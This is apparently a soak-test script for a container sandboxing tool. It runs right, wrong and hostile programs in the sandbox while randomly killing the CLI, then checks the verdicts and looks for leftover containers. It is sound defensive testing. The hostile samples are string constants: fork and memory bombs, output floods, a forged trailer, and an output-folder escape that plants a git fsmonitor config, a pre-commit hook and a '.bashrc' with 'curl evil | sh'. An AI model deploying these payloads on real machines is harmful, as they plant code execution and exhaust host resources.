"""Soak: many runs and batch tasks — right, wrong and hostile — with the CLI killed at random.

Each step is one real ``sandcrew`` process: either ``sandcrew run`` of one program, or
``sandcrew suite evaluate --isolation batch`` of a few samples sharing one container.
A share of the processes gets SIGKILL, SIGTERM or SIGINT at a random moment. Every
process that finished on its own is judged against what its programs must give
(exit code, output, pass/fail/timeout; for ``--out``, that no host file changed);
then ``sandcrew sandbox gc`` runs and the containers of the soak's processes are
counted. The two figures that must be 0: wrong verdicts and containers left.

    .venv/bin/python benchmarks/soak.py --items 300          # a few minutes
    .venv/bin/python benchmarks/soak.py                      # 10,000 items: hours
    .venv/bin/python benchmarks/soak.py --concurrency 4 --batch-share 0.7 --batch-size 12 \
        --batch-timeout 3           # 10,000 items, most in batches: about an hour on 2 cores

Not part of the test suite: it takes long, and a shared engine is busy meanwhile.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import functools
import json
import os
import random
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import docker

from sandcrew.sandbox._labels import OWNER_PID_LABEL, PRODUCT_FILTER

HUNG_AFTER = 300.0
"""Seconds after which a sandcrew process that has not ended counts as hung (and is killed)."""
KILL_SIGNALS = (signal.SIGKILL, signal.SIGTERM, signal.SIGINT)
EXAMPLES_PER_CLASS = 3
"""Wrong verdicts printed per class (every class with one is shown)."""

# --- single runs: (program, extra arguments, judge of (exit code, stdout, folder)) ---------

FIBONACCI = "a, b = 1, 1\nfor _ in range(37):\n    a, b = b, a + b\nprint(b)\n"
FORGER = r"""
import os, sys
for nonce in (b"0" * 32, b"x"):
    line = b"\x1e" + nonce + b":0\n"
    sys.stdout.buffer.write(line)
    sys.stderr.buffer.write(line)
sys.stdout.flush()
try:
    os.kill(os.getppid(), 9)
except OSError:
    pass
sys.exit(3)
"""
FORK_BOMB = (
    "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
)
MEMORY_BOMB = "chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024 * 1024))\n"
FLOOD = "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n"
BACKGROUND = (
    "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\n"
    "    os._exit(0)\nprint('parent')\n"
)
DEEP_TREE_RUN = (
    "import os\nfor _ in range(1500):\n    os.mkdir('d')\n    os.chdir('d')\n"
    "    open('f', 'w').write('x' * 1024)\nprint('deep')\n"
)
IPC_CREATE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
key = int.from_bytes(os.urandom(3), "big") + 1
made = [libc.shmget(key, 32 << 20, 0o1666), libc.msgget(key, 0o1666), libc.semget(key, 4, 0o1666)]
try:
    os.close(os.open("/dev/mqueue/soak%d" % key, os.O_CREAT | os.O_WRONLY, 0o666))
except OSError:
    pass
"""
OUT_ESCAPE = r"""
import os
os.makedirs("out/.git/hooks", exist_ok=True)
os.makedirs("out/sub", exist_ok=True)
open("out/.git/config", "w").write("[core]\n\tfsmonitor = touch /tmp/pwned\n")
open("out/.git/hooks/pre-commit", "w").write("#!/bin/sh\ntouch /tmp/pwned\n")
open("out/keep.txt", "w").write("theirs")
open("out/.bashrc", "w").write("curl evil | sh\n")
open("out/sub/x", "w").write("x")
os.close(os.open(b"out/\xff\x1b[2J\x1b]0;TITLE\x1b\\", os.O_CREAT | os.O_WRONLY))
print("written")
"""

Judge = Callable[[int, str, Path], bool]


@dataclass(frozen=True)
class RunClass:
    program: str
    arguments: tuple[str, ...]
    judge: Judge


def _exit(code: int, stdout: str | None = None) -> Judge:
    return lambda returncode, out, _: returncode == code and (stdout is None or out == stdout)


def _out_intact(returncode: int, stdout: str, folder: Path) -> bool:
    """The program ran, and nothing of the host outside the new folder changed or appeared."""
    out, victim = folder / "out", folder / "victim"
    made = [path for path in out.iterdir() if path.name.startswith("sandcrew-")]
    return (
        returncode == 0
        and stdout == "written\n"
        and (out / "keep.txt").read_text() == "mine"
        and os.readlink(out / "sub") == "../victim"
        and not list(victim.iterdir())
        and not (out / ".bashrc").exists()
        and len(made) == 1
        and not list(made[0].rglob(".git"))
        and (made[0] / "keep.txt").read_text() == "theirs"
        and sorted(path.name for path in out.iterdir()) == sorted(["keep.txt", "sub", made[0].name])
    )


RUN_CLASSES: dict[str, RunClass] = {
    "run/right": RunClass(FIBONACCI, (), _exit(0, "63245986\n")),
    "run/wrong": RunClass("import sys\nprint('no')\nsys.exit(3)\n", (), _exit(3, "no\n")),
    "run/crash": RunClass("raise ValueError('no')\n", (), _exit(1, "")),
    "run/loop": RunClass("while True:\n    pass\n", ("--timeout", "2"), _exit(124)),
    "run/memory-bomb": RunClass(MEMORY_BOMB, ("--memory", "64m"), _exit(137)),
    "run/fork-bomb": RunClass(FORK_BOMB, ("--timeout", "2"), _exit(124)),
    "run/output-flood": RunClass(FLOOD, ("--timeout", "2"), _exit(124)),
    "run/forged-trailer": RunClass(FORGER, (), _exit(3)),
    "run/background-child": RunClass(BACKGROUND, (), _exit(0, "parent\n")),
    "run/deep-tree": RunClass(DEEP_TREE_RUN, (), _exit(0, "deep\n")),
    "run/sysv-ipc": RunClass(IPC_CREATE + "print('ipc')\n", (), _exit(0, "ipc\n")),
    "run/out-escape": RunClass(OUT_ESCAPE, ("--out", "out"), _out_intact),
}

# --- batch tasks: samples of one problem, checked in one batch container ------------------

PROBLEM = {
    "task_id": "soak/add",
    "prompt": "def add(a, b):\n",
    "entry_point": "add",
    "canonical_solution": "    return a + b\n",
    # One call: each hostile completion attacks once.
    "test": "def check(candidate):\n    assert candidate(2, 3) == 5\n",
}


def _body(code: str) -> str:
    return "".join(f"    {line}\n" if line else "\n" for line in code.strip("\n").splitlines())


PASSED, FAILED, TIMED_OUT = "passed", "failed", "timed out"
SURVEY = r"""
import os, time
def ipc_objects():
    found = set()
    for kind in ("shm", "msg", "sem"):
        with open("/proc/sysvipc/" + kind) as table:
            found.update(kind + ":" + line.split()[1] for line in table.read().splitlines()[1:])
    if os.path.isdir("/dev/mqueue"):
        found.update("mqueue:" + name for name in os.listdir("/dev/mqueue"))
    return found
# A neighbour running at the same time may hold objects for a moment; what outlives it is left.
seen = ipc_objects()
if seen:
    time.sleep(1.5)
leftovers = seen & ipc_objects()
return a + b if not leftovers else sorted(leftovers)
"""
BATCH_CLASSES: dict[str, tuple[str, frozenset[str]]] = {
    "batch/right": ("return a + b", frozenset({PASSED})),
    "batch/fast-neighbour": ("print('fast')\nreturn a + b", frozenset({PASSED})),
    "batch/wrong": ("return a - b", frozenset({FAILED})),
    "batch/crash": ("raise ValueError('no')", frozenset({FAILED})),
    "batch/loop": ("while True:\n    pass", frozenset({TIMED_OUT})),
    "batch/forged-exit": ("import os\nos._exit(0)", frozenset({FAILED})),
    "batch/memory-bomb": (MEMORY_BOMB.replace("chunks", "held"), frozenset({FAILED, TIMED_OUT})),
    "batch/fork-bomb": (FORK_BOMB, frozenset({FAILED, TIMED_OUT})),
    "batch/deep-tree-fill": (
        # 1,500 levels, then files at the bottom that fill the work dir (at most 96 MiB),
        # each under the file size limit.
        "import os\nfor _ in range(1500):\n    os.mkdir('d')\n    os.chdir('d')\n"
        "    open('f', 'w').write('x' * 4096)\ntry:\n    for n in range(24):\n"
        "        with open('fill%d' % n, 'wb') as fill:\n"
        "            fill.write(bytes(4 << 20))\n"
        "except OSError:\n    pass\nreturn a + b",
        frozenset({PASSED}),
    ),
    "batch/links-after-exit": (
        "import os, time\nopen('seed', 'w').write('x')\nif os.fork() == 0:\n    os.setsid()\n"
        "    end = time.time() + 5\n    n = 0\n    while time.time() < end:\n        try:\n"
        "            os.link('seed', 'l%d' % n)\n            os.symlink('/etc', 's%d' % n)\n"
        "        except OSError:\n            pass\n        n += 1\n    os._exit(0)\nreturn a + b",
        frozenset({PASSED}),
    ),
    "batch/locked-folders": (
        # Its own rights in its folders taken away: its reaper must give them back.
        "import os\nos.makedirs('a/b')\nopen('a/b/f', 'w').write('x' * 4096)\n"
        "os.chmod('a/b', 0o500)\nos.chmod('a', 0o100)\nos.chmod('.', 0o500)\nreturn a + b",
        frozenset({PASSED}),
    ),
    "batch/sysv-ipc": (IPC_CREATE + "return a + b", frozenset({PASSED})),
    "batch/ipc-survey": (SURVEY, frozenset({PASSED})),
    "batch/big-tree-stall": (
        # 72,000 folders (seconds to delete), bounded so that the attack is about time,
        # not about the kernel memory that endless folders would take.
        "import os, time\nfor worker in range(3):\n    if os.fork() == 0:\n"
        "        for n in range(6000):\n"
        "            os.makedirs('t%d/%d/a/b/c' % (worker, n), exist_ok=True)\n"
        "        time.sleep(60)\ntime.sleep(60)",
        frozenset({TIMED_OUT}),
    ),
}


def _verdict(result: str) -> str:
    return result if result in (PASSED, TIMED_OUT) else FAILED


# --- the soak ------------------------------------------------------------------------------


@dataclass
class Tally:
    """Per class: items judged, wrong verdicts, items whose process was killed or hung."""

    judged: collections.Counter[str] = field(default_factory=collections.Counter)
    wrong: collections.Counter[str] = field(default_factory=collections.Counter)
    killed: collections.Counter[str] = field(default_factory=collections.Counter)
    unchecked: collections.Counter[str] = field(default_factory=collections.Counter)
    hung: int = 0
    pids: set[int] = field(default_factory=set)
    examples: dict[str, list[str]] = field(default_factory=dict)
    """Per class with a wrong verdict, the first few of them."""
    lock: threading.Lock = field(default_factory=threading.Lock)

    def wrong_verdict(self, name: str, detail: str) -> None:
        self.wrong[name] += 1
        shown = self.examples.setdefault(name, [])
        if len(shown) < EXAMPLES_PER_CLASS:
            shown.append(detail)


def _sandcrew(*args: str, cwd: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "sandcrew", *args],
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,  # a signal for it never reaches the soak
    )


def _finish(
    process: subprocess.Popen[str], kill: tuple[float, signal.Signals] | None, tally: Tally
) -> tuple[str, bool] | None:
    """Its stdout and whether it ended on its own, or None when it hung."""
    with tally.lock:
        tally.pids.add(process.pid)
    timer = None
    if kill is not None:
        delay, chosen = kill
        timer = threading.Timer(delay, _signal, (process, chosen))
        timer.start()
    try:
        stdout, _ = process.communicate(timeout=HUNG_AFTER)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        with tally.lock:
            tally.hung += 1
        return None
    finally:
        if timer is not None:
            timer.cancel()
    killed = process.returncode < 0 or (
        kill is not None and process.returncode in (130, 143) and kill[1] != signal.SIGKILL
    )
    return stdout, not killed


def _signal(process: subprocess.Popen[str], chosen: signal.Signals) -> None:
    if process.poll() is None:
        with contextlib.suppress(ProcessLookupError):
            os.kill(process.pid, chosen)


def one_run(name: str, kill: tuple[float, signal.Signals] | None, tally: Tally) -> None:
    spec = RUN_CLASSES[name]
    with tempfile.TemporaryDirectory(prefix="sandcrew-soak-") as scratch:
        folder = Path(scratch)
        (folder / "program.py").write_text(spec.program)
        (folder / "out").mkdir()
        (folder / "out" / "keep.txt").write_text("mine")
        (folder / "victim").mkdir()
        (folder / "out" / "sub").symlink_to("../victim")
        process = _sandcrew("run", "program.py", *spec.arguments, cwd=folder)
        finished = _finish(process, kill, tally)
        with tally.lock:
            if finished is None:
                tally.wrong_verdict(name, "hung")
                return
            stdout, on_its_own = finished
            if not on_its_own:
                tally.killed[name] += 1
                return
            tally.judged[name] += 1
            if not spec.judge(process.returncode, stdout, folder):
                tally.wrong_verdict(name, f"exit {process.returncode}, stdout {stdout[:80]!r}")


def one_batch(
    names: list[str],
    kill: tuple[float, signal.Signals] | None,
    tally: Tally,
    *,
    confirm: bool,
    timeout: float,
) -> None:
    with tempfile.TemporaryDirectory(prefix="sandcrew-soak-") as scratch:
        folder = Path(scratch)
        (folder / "problems.jsonl").write_text(json.dumps(PROBLEM) + "\n")
        samples = [
            {"task_id": PROBLEM["task_id"], "completion": _body(BATCH_CLASSES[name][0])}
            for name in names
        ]
        (folder / "samples.jsonl").write_text("".join(json.dumps(line) + "\n" for line in samples))
        process = _sandcrew(
            *("suite", "evaluate", "samples.jsonl", "--problems", "problems.jsonl"),
            *("--isolation", "batch", "--k", "1", "--timeout", str(timeout), "-j", "2"),
            *(() if confirm else ("--no-confirm-timeouts",)),
            cwd=folder,
        )
        finished = _finish(process, kill, tally)
        results_file = folder / "samples.jsonl_results.jsonl"
        with tally.lock:
            if finished is None:
                for name in names:
                    tally.wrong_verdict(name, "hung")
                return
            if not finished[1] or not results_file.exists():
                for name in names:
                    tally.killed[name] += 1
                return
            results = [json.loads(line) for line in results_file.read_text().splitlines()]
            for name, result in zip(names, results, strict=True):
                tally.judged[name] += 1
                text = str(result["result"])
                if text.startswith("failed: sandbox error"):
                    tally.unchecked[name] += 1
                if _verdict(text) not in BATCH_CLASSES[name][1]:
                    tally.wrong_verdict(name, text[:120])


def _containers(client: docker.DockerClient, pids: set[int]) -> int:
    found = client.api.containers(all=True, filters={"label": [PRODUCT_FILTER]})
    return sum(
        1 for container in found if container["Labels"].get(OWNER_PID_LABEL) in map(str, pids)
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--items", type=int, default=10_000, help="Runs plus batch tasks.")
    parser.add_argument("--concurrency", type=int, default=2, help="sandcrew processes at once.")
    parser.add_argument("--batch-size", type=int, default=6, help="Samples per batch container.")
    parser.add_argument("--batch-share", type=float, default=0.5, help="Share of batch tasks.")
    parser.add_argument("--kill-share", type=float, default=0.2, help="Processes signalled.")
    parser.add_argument("--seed", type=int, default=None)
    parser.add_argument(
        "--batch-timeout", type=float, default=5.0, help="Seconds per batch sample."
    )
    parser.add_argument(
        "--no-confirm-timeouts",
        action="store_true",
        help="Batch timeouts count at once (each confirmation costs a run alone).",
    )
    options = parser.parse_args()
    seed = options.seed if options.seed is not None else random.randrange(1 << 30)
    chooser = random.Random(seed)
    tally = Tally()
    jobs: list[Callable[[], None]] = []
    planned = 0
    while planned < options.items:
        kill = None
        if chooser.random() < options.kill_share:
            kill = (chooser.uniform(0.1, 4.0), chooser.choice(KILL_SIGNALS))
        if chooser.random() < options.batch_share:
            size = min(options.batch_size, options.items - planned)
            names = [chooser.choice(sorted(BATCH_CLASSES)) for _ in range(size)]
            jobs.append(
                functools.partial(
                    one_batch,
                    names,
                    kill,
                    tally,
                    confirm=not options.no_confirm_timeouts,
                    timeout=options.batch_timeout,
                )
            )
            planned += size
        else:
            name = chooser.choice(sorted(RUN_CLASSES))
            jobs.append(functools.partial(one_run, name, kill, tally))
            planned += 1
    print(f"soak: {planned} items in {len(jobs)} sandcrew processes, seed {seed}", flush=True)
    started = time.monotonic()
    with ThreadPoolExecutor(options.concurrency) as pool:
        for done, future in enumerate([pool.submit(job) for job in jobs], start=1):
            future.result()
            if done % 25 == 0:
                print(
                    f"  {done}/{len(jobs)} processes, {time.monotonic() - started:.0f}s", flush=True
                )
    elapsed = time.monotonic() - started
    client = docker.from_env()
    before_gc = _containers(client, tally.pids)
    gc = subprocess.run(
        [sys.executable, "-m", "sandcrew", "sandbox", "gc"], capture_output=True, text=True
    )
    left = _containers(client, tally.pids)
    _report(tally, elapsed, before_gc, left, gc.returncode)
    return 0 if not sum(tally.wrong.values()) and not left and not tally.hung else 1


def _report(tally: Tally, elapsed: float, before_gc: int, left: int, gc_exit: int) -> None:
    names = sorted(set(tally.judged) | set(tally.killed) | set(tally.wrong))
    print(f"\n{'class':<26}{'judged':>8}{'wrong':>7}{'killed':>8}{'unchecked':>11}")
    for name in names:
        print(
            f"{name:<26}{tally.judged[name]:>8}{tally.wrong[name]:>7}"
            f"{tally.killed[name]:>8}{tally.unchecked[name]:>11}"
        )
    print(
        f"\nitems judged {sum(tally.judged.values())}, killed {sum(tally.killed.values())}, "
        f"in {elapsed:.0f}s"
    )
    print(f"wrong verdicts: {sum(tally.wrong.values())} (expected 0); hung processes: {tally.hung}")
    print(f"containers left before gc: {before_gc}; `sandcrew sandbox gc` exit {gc_exit}")
    print(f"containers left after gc: {left} (expected 0)")
    for name, shown in sorted(tally.examples.items()):
        for detail in shown:
            print(f"  wrong: {name}: {detail}")


if __name__ == "__main__":
    sys.exit(main())
